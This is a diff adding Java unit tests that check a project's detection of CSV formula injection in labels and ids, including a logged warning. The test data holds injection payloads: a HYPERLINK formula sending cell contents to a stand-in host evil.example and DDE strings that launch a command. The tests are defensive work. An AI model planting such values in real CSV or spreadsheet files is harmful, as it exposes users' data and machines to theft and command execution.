@@ -26,6 +26,48 @@ class LabelCheckTest {
         assertThat(LabelCheck.nearDuplicates(List.of("1", "10", "1e", "e", "a", "b"))).isEmpty();
     }
 
+    /** OWASP's formula starts, without numbers: -1 (a UCR label) and +49... (a phone number as an id) are data, not formulas. */
+    @Test
+    void valuesASpreadsheetRunsAsFormulasAreRecognised() {
+        for (String f : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
+                "+SUM(1)", "-cmd", "+", "-", "=1+2+tr1", "@")) {
+            assertThat(LabelCheck.looksLikeFormula(f)).as(f).isTrue();
+        }
+        for (String v : List.of("-1", "+1", "+49 30 1234567", "-0.5", "-.5", "+.5", "a=b", "walk", "", "1e3", "a@b")) {
+            assertThat(LabelCheck.looksLikeFormula(v)).as(v).isFalse();
+        }
+        assertThat(LabelCheck.formulaWarning(List.of("-1", "1"), List.of("+4930", "s1"))).isEmpty();
+        assertThat(LabelCheck.formulaWarning(List.of("=1+1", "ok"), List.of("s1", "+SUM(1)", "=a", "@b", "-c", "=d", "=e")))
+                .hasValue("1 label(s) '=1+1' and 6 id(s) '+SUM(1)', '=a', '@b', '-c', '=d', ... start with =, @, + or - (not a "
+                        + "number), which a spreadsheet runs as a formula: the CSV files rnnlab writes (predictions, splits.csv, "
+                        + "per-class.csv) hold them as they are, so open those files in a spreadsheet only as text (import, not "
+                        + "double-click), or rename these values");
+    }
+
+    /** Training warns once of labels and ids that are formulas, naming them; the values themselves are kept as written. */
+    @Test
+    void csvTrainingWarnsOfFormulaLabelsAndIds() throws Exception {
+        Path f = dir.resolve("evil.csv");
+        StringBuilder b = new StringBuilder("sequence_id,time,x,label\n");
+        for (int s = 0; s < 12; s++) {
+            for (int t = 0; t < 3; t++) {
+                b.append(s == 0 ? "\"=cmd|' /C calc'!A0\"" : "s" + s).append(',').append(t).append(',').append(s % 2 + t)
+                        .append(',').append(s % 2 == 0 ? "\"@SUM(1+1)\"" : "-1").append('\n');
+            }
+        }
+        Files.writeString(f, b.toString());
+        var options = org.rnnlab.datasets.csv.CsvOptions.defaults();
+        List<String> warnings = LoggedWarnings.of(org.rnnlab.datasets.csv.CsvSequenceDataset.class, () -> {
+            var d = org.rnnlab.datasets.csv.CsvSequenceDataset.fromLongCsv(f, options);
+            assertThat(d.labelNames()).containsExactly("-1", "@SUM(1+1)");
+        });
+        assertThat(warnings.stream().filter(w -> w.contains("a spreadsheet runs as a formula")))
+                .containsExactly("csv " + f + ": 1 label(s) '@SUM(1+1)' and 1 id(s) '=cmd|' /C calc'!A0' start with =, @, + or - (not a "
+                        + "number), which a spreadsheet runs as a formula: the CSV files rnnlab writes (predictions, splits.csv, "
+                        + "per-class.csv) hold them as they are, so open those files in a spreadsheet only as text (import, not "
+                        + "double-click), or rename these values");
+    }
+
     @Test
     void invisibleCharactersAreShownAsEscapes() {
         assertThat(LabelCheck.show(List.of("walk", "walk\u00a0", "run\u200b", "cafe\u0301"))).isEqualTo(
